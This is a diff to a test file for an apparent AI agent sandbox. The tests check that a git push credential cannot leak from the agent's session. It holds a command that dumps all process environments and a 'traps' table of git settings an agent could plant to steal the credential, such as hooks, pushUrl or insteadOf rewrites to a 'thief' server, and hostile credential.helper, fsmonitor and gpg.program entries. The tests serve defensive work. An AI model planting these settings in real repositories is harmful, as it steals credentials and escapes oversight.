@@ -124,14 +124,20 @@ describe("the work of a session", function () {
 		await pod.ask("$ echo two > two.txt");
 		const without = await publish(pod, stage.order({ credential: undefined }));
 		expect(without).to.include({ status: 502, type: "PUSH_REFUSED" });
-		expect(await publish(pod, stage.order({ credential: { username: "ada", password: "wrong-password" } }))).to.include({
-			status: 502,
-			type: "PUSH_REFUSED",
-		});
+		expect(await publish(pod, stage.order({ credential: { username: "ada", password: "wrong-password" } }))).to.include(
+			{
+				status: 502,
+				type: "PUSH_REFUSED",
+			},
+		);
 		expect((await publish(pod, stage.order())).status).to.equal(200);
 		expect(stage.at("work", "%s")).to.equal("Fix the shop");
-		const asked = await pod.ask("$ git push origin HEAD:refs/heads/other 2>&1; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'");
-		expect(asked.content).to.match(/could not read Username|Authentication failed/).and.not.contain(password);
+		const asked = await pod.ask(
+			"$ git push origin HEAD:refs/heads/other 2>&1; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
+		);
+		expect(asked.content)
+			.to.match(/could not read Username|Authentication failed/)
+			.and.not.contain(password);
 		expect(everything(stage.session.workspace)).not.to.contain(password);
 		expect(everything(join(stage.session.folder, "state"))).not.to.contain(password);
 		expect(everything(pod.launch.home)).not.to.contain(password);
@@ -205,7 +211,7 @@ async function thief(): Promise<{ url: string; heard: string[]; close(): Promise
 	};
 }
 
-/** What an agent can write into its repository; `$TRAP` is a program that keeps its arguments, input and descriptor 3. */
+/** The settings and programs that an agent can put into its repository; `$TRAP` is a program that keeps its arguments, input and descriptor 3. */
 const traps: Readonly<Record<string, string>> = {
 	"a hook": "cp $TRAP .git/hooks/pre-push; cp $TRAP .git/hooks/pre-commit; cp $TRAP .git/hooks/reference-transaction",
 	"core.hooksPath": "mkdir -p hooks && cp $TRAP hooks/pre-push && git config core.hooksPath $PWD/hooks",
@@ -218,8 +224,9 @@ const traps: Readonly<Record<string, string>> = {
 	"remote.pushUrl": "git config remote.origin.pushUrl $THIEF; git config remote.pushDefault origin",
 	"a remote with the name of the URL": 'git config "remote.$URL.pushUrl" $THIEF',
 	"http.proxy": "git config http.proxy $THIEF",
-	"an included file": 'git config --file ~/more url.$THIEF.insteadOf $URL; git config include.path ~/more',
-	"a home folder's configuration": "git config --global url.$THIEF.insteadOf $URL; git config --global credential.helper '!'$TRAP",
+	"an included file": "git config --file ~/more url.$THIEF.insteadOf $URL; git config include.path ~/more",
+	"a home folder's configuration":
+		"git config --global url.$THIEF.insteadOf $URL; git config --global credential.helper '!'$TRAP",
 	"gpg.program": "git config commit.gpgSign true; git config gpg.program $TRAP; git config push.gpgSign true",
 	"core.fsmonitor": "git config core.fsmonitor $TRAP",
 	"core.gitProxy": "git config core.gitProxy $TRAP",
